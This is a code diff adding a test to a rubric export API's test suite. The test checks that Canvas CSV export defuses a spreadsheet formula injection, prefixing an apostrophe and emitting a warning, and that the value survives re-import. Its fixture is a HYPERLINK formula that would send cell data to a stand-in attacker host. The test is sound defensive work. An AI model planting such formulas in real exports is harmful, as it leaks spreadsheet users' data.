@@ -308,6 +308,34 @@ describe("GET /v1/rubrics/:id/export", () => {
     expect(back.json().criteria).toEqual(scienceRubric.criteria);
   });
 
+  it("writes a title a spreadsheet would run as a formula with a leading apostrophe, and says so", async () => {
+    const formula = '=HYPERLINK("https://attacker.example/?"&B2,"Open")';
+    await test.app.inject({
+      method: "POST",
+      url: "/v1/rubrics",
+      payload: { ...scienceRubric, title: formula },
+    });
+    const response = await test.app.inject({
+      method: "GET",
+      url: "/v1/rubrics/photosynthesis-basics/export?format=canvas-csv",
+    });
+    expect(response.statusCode).toBe(200);
+    expect(response.body.split("\n")[1]!.startsWith(`"'=HYPERLINK(`)).toBe(true);
+    const warnings = JSON.parse(response.headers["x-rubric-export-warnings"] as string);
+    expect(warnings).toContainEqual({
+      path: "title",
+      message: expect.stringContaining("leading apostrophe"),
+    });
+
+    const back = await importRequest(
+      `format=canvas-csv&id=guarded&question=${question}`,
+      "text/csv",
+      response.body,
+    );
+    expect(back.statusCode).toBe(201);
+    expect(back.json().title).toBe(formula);
+  });
+
   it("answers the Moodle formats as XML, for an older version too", async () => {
     const first = (
       await test.app.inject({ method: "POST", url: "/v1/rubrics", payload: scienceRubric })
